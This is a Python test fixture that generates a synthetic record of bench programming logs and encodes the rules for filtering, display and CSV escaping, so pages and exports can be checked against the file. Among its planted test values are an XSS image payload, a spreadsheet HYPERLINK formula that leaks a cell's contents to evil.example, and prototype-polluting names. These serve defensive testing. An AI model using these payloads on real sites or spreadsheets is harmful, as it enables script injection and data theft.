"""A long record of schema-1 lines for the history pages, with what the contract says a filter
keeps, so a test can hold the pages and exports against the file itself."""

import json
import random
from datetime import datetime, timedelta, timezone

HOSTILE_UNIT = "<img src=x onerror=alert(1)>"
FORMULA_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"U-1")'
# A name with characters beyond U+00FF, and lanes named as what a plain object inherits.
LANE_TEXT = "Línea 1 – Prüfung"
UNIT_TEXT = "Zähler-Ü"
HOSTILE_LANES = ("constructor", "__proto__", "toString")
KEYS = ["bench", "seq", "command", "started", "finished", "host", "lead_serial", "lead_index",
        "lead_location", "lane_name", "unit_id", "result", "version_before", "version_after",
        "attempts", "records_sent", "records_total", "attempt_results", "furthest_attempt",
        "furthest_records_sent", "duration_s", "operator", "image_sha256",
        "image_version", "program_version", "backend"]
LEADS = [("PX7A0000", 0, "0x01100000", "Fixture A"), ("PX7A0001", 1, "0x01200000", None),
         ("PX7A0002", 2, "0x01300000", "Prüfplatz Ü, \"links\""), (None, 3, None, None)]
RESULTS = ["ok"] * 16 + ["current"] * 2 + ["transfer_stopped", "meter_silent", "busy"]
SHA = "da95" + "3c" * 29 + "0b32"


def _time(moment):
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def as_bytes(text):
    """A name as lines wrote it before names were UTF-8: its bytes, one per character."""
    return text.encode("utf-8").decode("latin-1")


def _unit(number):
    special = {4242: HOSTILE_UNIT, 777: 'U,"quoted"', 999: "U-999\r\nsecond line",
               4244: FORMULA_UNIT, 5000: UNIT_TEXT, 5001: as_bytes(UNIT_TEXT), 5002: "-1.5"}
    if number in special:
        return special[number]
    return None if number % 10 == 0 else f"U-{number % 3000:05d}"


def _line(number, rng, finished):
    serial, index, location, name = LEADS[rng.randrange(len(LEADS))]
    result = RESULTS[rng.randrange(len(RESULTS))]
    duration = round(rng.uniform(2.5, 9.5), 3)
    sent = 314 if result in ("ok", "current") else rng.randrange(0, 314)
    fields = [("schema", 1), ("command", "station"),
              ("started", _time(finished - timedelta(seconds=duration))),
              ("finished", _time(finished)), ("host", "bench-3"), ("lead_serial", serial),
              ("lead_index", index), ("lead_location", location), ("lane_name", name),
              ("unit_id", _unit(number)), ("result", result),
              ("version_before", None if result == "meter_silent" else "PXR7 V1.02"),
              ("version_after", "PXR7 V1.03" if result in ("ok", "current") else None),
              ("attempts", rng.randrange(1, 4)), ("records_sent", sent),
              ("records_total", 314), ("duration_s", duration), ("image_sha256", SHA),
              ("image_version", "PXR7 V1.03"), ("program_version", "1.3.0"), ("backend", "D2XX")]
    line = dict(fields)
    # The same name written both ways, and a meter's versions: UTF-8 bytes, and a lone byte.
    if number in (5000, 5001):
        line["lane_name"] = LANE_TEXT if number == 5000 else as_bytes(LANE_TEXT)
        line["version_before"] = "PXR7 V1.02 \u00b5"
        line["version_after"] = as_bytes("PXR7 V1.03 – ü")
    if 5003 <= number < 5003 + len(HOSTILE_LANES):
        line["lane_name"] = HOSTILE_LANES[number - 5003]
    return json.dumps(line, ensure_ascii=False, separators=(",", ":"))


def write_record(path, count):
    """Writes count lines, two minutes apart over some days; returns [(line number, raw bytes
    without the newline, parsed object)]."""
    rng = random.Random(22)
    start = datetime(2026, 11, 24, 6, 0, tzinfo=timezone.utc)
    lines = []
    for number in range(1, count + 1):
        text = _line(number, rng, start + timedelta(minutes=2 * number))
        lines.append((number, text.encode("utf-8"), json.loads(text)))
    with open(path, "wb") as file:
        file.write(b"".join(raw + b"\n" for _, raw, _ in lines))
    return lines


def shown(text):
    """A record's text as the pages and the CSV show it: characters up to U+00FF whose bytes
    are UTF-8 as the text they spell, any other text as it is."""
    if not isinstance(text, str) or not any("\x80" <= c <= "\xff" for c in text):
        return text
    try:
        return text.encode("latin-1").decode("utf-8")
    except UnicodeError:
        return text


def label(entry):
    if entry["lane_name"]:
        return shown(entry["lane_name"])
    if entry["lead_serial"]:
        return shown(entry["lead_serial"])
    return f"bridge {entry['lead_index']}"


def matches(entry, result="", lane="", unit="", since="", until=""):
    """What the history keeps for a filter, as the contract words it."""
    day = entry["finished"][:10]
    failed = entry["result"] not in ("ok", "current")
    return ((not result or entry["result"] == result or (result == "failed" and failed)) and
            (not lane or label(entry) == lane) and (not unit or shown(entry["unit_id"]) == unit) and
            (not since or day >= since) and (not until or day <= until))


def page_text(value):
    """A value as the entry page shows it."""
    if value is None:
        return "null"
    return shown(value) if isinstance(value, str) else json.dumps(value)


def csv_field(value, exact=False):
    """A value as the CSV export writes it: null empty, numbers as in the line, a text a
    spreadsheet would run with "'" before it (unless exact)."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return json.dumps(value)
    text = shown(value)
    return "'" + text if not exact and text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
